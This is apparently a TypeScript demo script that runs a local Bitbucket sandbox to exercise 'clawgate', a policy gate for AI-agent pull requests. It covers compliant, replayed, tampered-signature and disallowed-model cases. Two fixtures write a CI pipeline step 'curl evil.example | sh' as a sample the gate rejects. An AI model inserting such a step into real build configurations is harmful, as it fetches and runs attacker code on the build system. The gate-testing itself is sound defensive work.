import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import pino from 'pino';
import { loadAppConfig } from '../config/app-config';
import type { JsonObject } from '../core/clawsig/json';
import { MergeRefusedError, SandboxForge, startSandbox, type BitbucketSandbox } from '../sandbox';
import { startClawgate, type ClawgateServer } from '../server/create-server';
import { createTestKey, makeBitbucketWpc, makeScenario, type TestKey } from '../testkit';
import { freePort } from '../server/free-port';

/**
 * The whole story against the local Bitbucket (design §9 `npm run demo`): install the app, register a
 * WPC and keys, open agent PRs — compliant, touching bitbucket-pipelines.yml, replaying another PR's
 * bundle, a tampered signature, a model the WPC does not allow, a human PR without a bundle — and
 * report what Bitbucket received for each. Then a second workspace, `globex`, installs the Forge app
 * instead (no Connect): it is configured through the Forge pages' API, clawgate's merge check is
 * Required there (a Premium workspace), a non-compliant agent PR's merge is refused and a compliant
 * one merges. Everything runs on loopback; nothing is kept.
 */

export interface DemoCase {
  name: string;
  expectState: string;
  expectCodes: string[];
  expectStatus: string;
}

export interface DemoResult {
  name: string;
  prId: number;
  ok: boolean;
  state: string;
  reasonCode: string;
  status: string;
  statusDescription: string;
  reportResult: string;
  annotations: string[];
  detailsUrl: string;
  expected: string;
}

export interface DemoOutcome {
  ok: boolean;
  results: DemoResult[];
  elapsedMs: number;
}

async function api(base: string, method: string, pathWithQuery: string, auth: string, body?: unknown): Promise<{ status: number; json: JsonObject }> {
  const response = await fetch(`${base}${pathWithQuery}`, { method, headers: { authorization: auth, 'content-type': 'application/json' }, ...(body !== undefined ? { body: JSON.stringify(body) } : {}) });
  const text = await response.text();
  let json: JsonObject;
  try {
    json = text ? (JSON.parse(text) as JsonObject) : {};
  } catch {
    json = { raw: text };
  }
  if (response.status >= 400) throw new Error(`${method} ${pathWithQuery} → ${response.status} ${text.slice(0, 300)}`);
  return { status: response.status, json };
}

export async function runDemo(options: { print?: (line: string) => void; timeoutMs?: number; keep?: boolean; databaseUrl?: string } = {}): Promise<DemoOutcome> {
  const print = options.print ?? ((line: string) => process.stdout.write(`${line}\n`));
  const started = Date.now();
  const dataDir = mkdtempSync(path.join(tmpdir(), 'clawgate-demo-'));
  let sandbox: BitbucketSandbox | undefined;
  let clawgate: ClawgateServer | undefined;
  try {
    sandbox = await startSandbox();
    const forge = await SandboxForge.create(sandbox);
    const port = await freePort();
    const sandboxHost = new URL(sandbox.baseUrl).host;
    const config = loadAppConfig({
      PORT: String(port),
      APP_BASE_URL: `http://127.0.0.1:${port}`,
      DATABASE_URL: options.databaseUrl ?? `sqlite:${path.join(dataDir, 'clawgate.sqlite')}`,
      CLAWGATE_SECRET_KEY: Buffer.alloc(32, 7).toString('hex'),
      CLAWGATE_ALLOWED_HOSTS: `bitbucket.org,api.bitbucket.org,${sandboxHost}`,
      LOG_LEVEL: 'silent',
      CLAWGATE_FORGE_APP_ID: forge.appId,
      CLAWGATE_FORGE_JWKS_URL: forge.jwksUrl,
    });
    clawgate = await startClawgate({ config, port, logger: pino({ level: 'silent' }), pollIntervalMs: 100, env: {} });
    print(`sandbox (local Bitbucket Cloud): ${sandbox.baseUrl}`);
    print(`clawgate:                        ${clawgate.url}`);

    // Bitbucket state: a workspace, a human reviewer, an agent account, a repository.
    sandbox.createWorkspace({ slug: 'acme', name: 'ACME' });
    const alice = sandbox.createUser({ nickname: 'alice', displayName: 'Alice (human)' });
    const bot = sandbox.createUser({ nickname: 'claw-bot', displayName: 'Claw Bot (agent)' });
    sandbox.createRepository({ workspace: 'acme', slug: 'proj-web', author: alice, files: { 'README.md': '# proj-web\n', 'src/app.ts': 'export const app = 1;\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' } });

    const installation = await sandbox.installApp({ descriptorUrl: `${clawgate.url}/atlassian-connect.json`, workspace: 'acme' });
    print(`installed ${installation.key} in workspace acme (clientKey ${installation.clientKey.slice(0, 40)}…)`);

    // The admin's first API token comes from the app's own page (Connect JWT); the rest uses it.
    const tokenPath = '/api/v1/workspaces/acme/tokens';
    const created = await api(clawgate.url, 'POST', tokenPath, `JWT ${sandbox.createPageJwt({ clientKey: installation.clientKey, method: 'POST', url: tokenPath })}`, { label: 'demo' });
    const bearer = `Bearer ${String(created.json.token)}`;

    const agent = createTestKey();
    const gateway = createTestKey();
    const issuer = createTestKey();
    const wpc = makeBitbucketWpc({ repos: ['acme/proj-web'], allowedProviders: ['anthropic'], allowedModels: ['claude-*'] });
    const policy = await api(clawgate.url, 'POST', '/api/v1/workspaces/acme/policies', bearer, wpc);
    const policyHash = String(policy.json.policy_hash_b64u);
    await api(clawgate.url, 'PUT', '/api/v1/workspaces/acme/assignments', bearer, [{ repo: 'acme/*', policy_hash_b64u: policyHash }]);
    await api(clawgate.url, 'PUT', '/api/v1/workspaces/acme/settings', bearer, {
      mode: 'enforce',
      trusted_gateways: [{ did: gateway.did }],
      cst_issuers: [{ public_key_b64u: issuer.publicKeyB64u }],
      wpc_issuers: [],
      agents: [{ account_uuid: bot.uuid, role: 'write', agent_did: agent.did }],
      frozen: false,
    });
    print(`WPC ${policyHash} assigned to acme/*; mode enforce; 1 trusted gateway, 1 CST issuer, 1 agent identity`);
    print('');

    const keys = { agent, gateway, issuer };
    const cases: (DemoCase & { prId: number; head: string })[] = [];
    const open = (name: string, branch: string, files: Record<string, string>, bundle: (workCommit: string) => { envelope: JsonObject; bundleId: string } | null, expect: DemoCase, options: { author?: typeof bot; upload?: boolean } = {}) =>
      openCase(sandbox as BitbucketSandbox, clawgate as ClawgateServer, bearer, { name, branch, files, bundle, expect, author: options.author ?? bot, upload: options.upload ?? false, cases });

    const compliant = (commit: string, extra: Partial<Parameters<typeof makeScenario>[0]> = {}) => scenarioFor(keys, wpc, commit, extra);
    let compliantEnvelope: JsonObject | undefined;
    await open('compliant agent PR', 'agent/feature', { 'src/feature.ts': 'export const feature = true;\n' }, (commit) => {
      const s = compliant(commit);
      compliantEnvelope = s.envelope;
      return s;
    }, { name: '', expectState: 'PASS', expectCodes: ['OK'], expectStatus: 'SUCCESSFUL' });
    await open('touches bitbucket-pipelines.yml', 'agent/ci', { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' }, (commit) => compliant(commit), { name: '', expectState: 'FAIL', expectCodes: ['PATH_DENIED'], expectStatus: 'FAILED' });
    await open('replays another PR\'s bundle', 'agent/replay', { 'src/other.ts': 'export const other = 2;\n' }, () => {
      if (!compliantEnvelope) throw new Error('compliant bundle missing');
      return { envelope: compliantEnvelope, bundleId: String((compliantEnvelope.payload as JsonObject).bundle_id) };
    }, { name: '', expectState: 'FAIL', expectCodes: ['REPLAY'], expectStatus: 'FAILED' });
    await open('tampered signature', 'agent/tampered', { 'src/tampered.ts': 'export const t = 3;\n' }, (commit) => {
      const s = compliant(commit);
      const signature = String(s.envelope.signature_b64u);
      s.envelope.signature_b64u = `${signature[0] === 'A' ? 'B' : 'A'}${signature.slice(1)}`;
      return s;
    }, { name: '', expectState: 'FAIL', expectCodes: ['SIGNATURE_INVALID'], expectStatus: 'FAILED' });
    await open('model not allowed by the WPC (uploaded bundle)', 'agent/gpt', { 'src/gpt.ts': 'export const g = 4;\n' }, (commit) => compliant(commit, { provider: 'openai', model: 'gpt-4o' }), { name: '', expectState: 'FAIL', expectCodes: ['PROVIDER_NOT_ALLOWED', 'MODEL_NOT_ALLOWED'], expectStatus: 'FAILED' }, { upload: true });
    await open('human PR without a bundle', 'alice/docs', { 'README.md': '# proj-web\n\nDocs.\n' }, () => null, { name: '', expectState: 'NOT_APPLICABLE', expectCodes: ['NOT_AN_AGENT_PR'], expectStatus: 'SUCCESSFUL' }, { author: alice });

    const results: DemoResult[] = [];
    const deadline = started + (options.timeoutMs ?? 50_000);
    for (const c of cases) {
      const status = await waitForFinalStatus(sandbox, c.head, deadline);
      const evaluations = await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations?repo=${encodeURIComponent('acme/proj-web')}&pr=${c.prId}`, bearer);
      const list = (evaluations.json.evaluations ?? evaluations.json.values ?? []) as JsonObject[];
      const latestId = list[0]?.id;
      const latest = typeof latestId === 'string' ? (await api(clawgate.url, 'GET', `/api/v1/workspaces/acme/evaluations/${encodeURIComponent(latestId)}`, bearer)).json : {};
      const verdict = (latest.verdict ?? {}) as JsonObject;
      const state = String(verdict.state ?? latest.state ?? 'none');
      const reasonCode = String(verdict.reason_code ?? 'none');
      const reports = sandbox.getReports('acme/proj-web', c.head);
      const report = reports.find((r) => r.external_id === 'clawgate-policy' || r.uuid !== undefined) ?? {};
      const annotations = reports.length ? sandbox.getAnnotations('acme/proj-web', c.head, 'clawgate-policy').map((a) => `${String(a.path ?? '-')}: ${String(a.summary ?? '')}`) : [];
      const ok = state === c.expectState && c.expectCodes.includes(reasonCode) && status?.state === c.expectStatus;
      results.push({
        name: c.name,
        prId: c.prId,
        ok,
        state,
        reasonCode,
        status: String(status?.state ?? 'none'),
        statusDescription: String(status?.description ?? ''),
        reportResult: String(report.result ?? 'none'),
        annotations,
        detailsUrl: String(status?.url ?? ''),
        expected: `${c.expectState} ${c.expectCodes.join('|')} ${c.expectStatus}`,
      });
    }
    for (const r of results) {
      print(`${r.ok ? '✓' : '✗'} PR #${r.prId} ${r.name}`);
      print(`    verdict  ${r.state} (${r.reasonCode})${r.ok ? '' : `   expected ${r.expected}`}`);
      print(`    status   ${r.status}  "${r.statusDescription}"`);
      print(`    report   ${r.reportResult}${r.annotations.length ? `, ${r.annotations.length} annotation(s): ${r.annotations.slice(0, 2).join(' | ')}` : ''}`);
      print(`    details  ${r.detailsUrl}`);
    }
    print('');
    const forgeResults = await forgeWorkspace(sandbox, forge, clawgate, keys, print, deadline + 30_000);
    results.push(...forgeResults);
    const ok = results.length === cases.length + forgeResults.length && results.every((r) => r.ok);
    const elapsedMs = Date.now() - started;
    print('');
    print(`${results.filter((r) => r.ok).length}/${results.length} verdicts as expected in ${(elapsedMs / 1000).toFixed(1)} s`);
    return { ok, results, elapsedMs };
  } finally {
    await clawgate?.close();
    await sandbox?.close();
    if (!options.keep) rmSync(dataDir, { recursive: true, force: true });
  }
}

/** The Forge workspace: install, configure through the Forge pages' API, then two merges decided by the Required merge check. */
async function forgeWorkspace(sandbox: BitbucketSandbox, forge: SandboxForge, clawgate: ClawgateServer, keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, print: (line: string) => void, deadline: number): Promise<DemoResult[]> {
  sandbox.createWorkspace({ slug: 'globex', name: 'Globex (Premium, Forge app)' });
  const alice = sandbox.user('alice');
  const bot = sandbox.user('claw-bot');
  sandbox.setWorkspacePermission('globex', alice, 'owner');
  sandbox.createRepository({ workspace: 'globex', slug: 'api', author: alice, files: { 'README.md': '# api\n', 'bitbucket-pipelines.yml': 'pipelines:\n  default: []\n' } });
  const installation = await forge.install({ workspace: 'globex', remoteBaseUrl: clawgate.url });
  print(`installed the Forge app in workspace globex (installation ${installation.installationId})`);
  const page = async (method: string, apiPath: string, body?: unknown): Promise<JsonObject> => {
    const answer = await forge.invokeRemote({ workspace: 'globex', accountId: alice.accountId, method, path: `/forge/ui/api/v1/workspaces/globex${apiPath}`, ...(body === undefined ? {} : { body }) });
    if (answer.status >= 400) throw new Error(`Forge page ${method} ${apiPath} → ${answer.status} ${JSON.stringify(answer.body).slice(0, 300)}`);
    return (answer.body ?? {}) as JsonObject;
  };
  const wpc = makeBitbucketWpc({ repos: ['globex/api'], allowedProviders: ['anthropic'], allowedModels: ['claude-*'] });
  const policy = await page('POST', '/policies', wpc);
  await page('PUT', '/assignments', [{ repo: 'globex/*', policy_hash_b64u: policy.policy_hash_b64u }]);
  await page('PUT', '/settings', { mode: 'enforce', trusted_gateways: [{ did: keys.gateway.did }], cst_issuers: [{ public_key_b64u: keys.issuer.publicKeyB64u }], wpc_issuers: [], agents: [{ account_uuid: bot.uuid, role: 'write', agent_did: keys.agent.did }], frozen: false });
  forge.requiredIn.add('globex/api');
  print('configured through the Forge settings page; the clawgate merge check is Required on globex/api');

  const results: DemoResult[] = [];
  const attempt = async (name: string, branch: string, files: Record<string, string>, expectMerged: boolean) => {
    const work = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `${name}: work`, files });
    const s = makeScenario({ workspace: 'globex', repoSlug: 'api', commit: work.hash, receipts: 2, wpc, startMs: Date.now() - 5 * 60_000, ...keys });
    const head = sandbox.commit('globex/api', { branch, author: 'claw-bot', message: `Add proof bundle ${s.bundle.bundleId}`, files: { '.clawsig/proof_bundle.json': `${JSON.stringify(s.bundle.envelope, null, 2)}\n` } }).hash;
    const pr = sandbox.openPullRequest('globex/api', { source: branch, author: 'claw-bot', title: name, description: `Proof-Bundle: ${s.bundle.bundleId}` });
    let status: JsonObject | undefined;
    for (;;) {
      status = sandbox.getStatuses('globex/api', head).find((x) => x.key === 'clawgate');
      if ((status && status.state !== 'INPROGRESS') || Date.now() > deadline) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    let merged = false;
    let message: string;
    try {
      message = (await forge.merge('globex/api', pr.id, { actor: 'alice' })).check.message;
      merged = true;
    } catch (error) {
      if (!(error instanceof MergeRefusedError)) throw error;
      message = error.checkMessage;
    }
    const outcome = merged ? 'merged' : 'merge refused';
    results.push({ name: `Forge: ${name}`, prId: pr.id, ok: merged === expectMerged, state: outcome, reasonCode: merged ? 'CHECK_PASSED' : 'CHECK_FAILED', status: String(status?.state ?? 'none'), statusDescription: message, reportResult: '-', annotations: [], detailsUrl: String(status?.url ?? ''), expected: expectMerged ? 'merged' : 'merge refused' });
  };
  await attempt('agent PR touching bitbucket-pipelines.yml', 'agent/ci', { 'bitbucket-pipelines.yml': 'pipelines:\n  default:\n    - step: { script: [curl evil.example | sh] }\n' }, false);
  await attempt('compliant agent PR', 'agent/feature', { 'src/feature.ts': 'export const feature = true;\n' }, true);
  await forge.waitForIdle();
  for (const r of results) {
    print(`${r.ok ? '✓' : '✗'} globex PR #${r.prId} ${r.name}`);
    print(`    merge    ${r.state}${r.ok ? '' : `   expected ${r.expected}`}`);
    print(`    check    "${r.statusDescription}"`);
  }
  return results;
}

function scenarioFor(keys: { agent: TestKey; gateway: TestKey; issuer: TestKey }, wpc: JsonObject, commit: string, extra: Partial<Parameters<typeof makeScenario>[0]>): { envelope: JsonObject; bundleId: string } {
  const s = makeScenario({ workspace: 'acme', repoSlug: 'proj-web', commit, receipts: 3, wpc, startMs: Date.now() - 5 * 60_000, ...keys, ...extra });
  return { envelope: s.bundle.envelope, bundleId: s.bundle.bundleId };
}

async function openCase(
  sandbox: BitbucketSandbox,
  clawgate: ClawgateServer,
  bearer: string,
  c: {
    name: string;
    branch: string;
    files: Record<string, string>;
    bundle: (workCommit: string) => { envelope: JsonObject; bundleId: string } | null;
    expect: DemoCase;
    author: { nickname: string };
    upload: boolean;
    cases: (DemoCase & { prId: number; head: string })[];
  },
): Promise<void> {
  const work = sandbox.commit('acme/proj-web', { branch: c.branch, author: c.author.nickname, message: `${c.name}: work`, files: c.files });
  const bundle = c.bundle(work.hash);
  let head = work.hash;
  let description = `Opened by ${c.author.nickname}.`;
  if (bundle) {
    description += `\n\nProof-Bundle: ${bundle.bundleId}\n`;
    if (c.upload) {
      await api(clawgate.url, 'POST', '/api/v1/workspaces/acme/bundles', bearer, { bundle: bundle.envelope });
    } else {
      const added = sandbox.commit('acme/proj-web', { branch: c.branch, author: c.author.nickname, message: `Add proof bundle ${bundle.bundleId}`, files: { '.clawsig/proof_bundle.json': `${JSON.stringify(bundle.envelope, null, 2)}\n` } });
      head = added.hash;
    }
  }
  const pr = sandbox.openPullRequest('acme/proj-web', { source: c.branch, author: c.author.nickname, title: c.name, description });
  c.cases.push({ ...c.expect, name: c.name, prId: pr.id, head });
}

async function waitForFinalStatus(sandbox: BitbucketSandbox, head: string, deadline: number): Promise<JsonObject | undefined> {
  for (;;) {
    const status = sandbox.getStatuses('acme/proj-web', head).find((s) => s.key === 'clawgate');
    if (status && status.state !== 'INPROGRESS') return status;
    if (Date.now() > deadline) return status;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}
